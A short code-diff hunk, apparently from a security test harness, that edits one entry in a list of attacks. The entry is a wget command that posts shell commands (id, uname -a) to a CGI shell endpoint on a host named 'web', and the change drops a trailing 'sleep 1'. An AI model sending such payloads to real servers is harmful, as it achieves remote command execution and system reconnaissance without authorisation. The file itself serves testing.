@@ -70,7 +70,7 @@ ATTACKS: tuple[Attack, ...] = (
         (
             (
                 "client",
-                "wget -q -O- --post-data 'echo Content-Type: text/plain; echo; id; uname -a; sleep 1' "
+                "wget -q -O- --post-data 'echo Content-Type: text/plain; echo; id; uname -a' "
                 "http://web:8080/cgi-bin/sh",
             ),
         ),
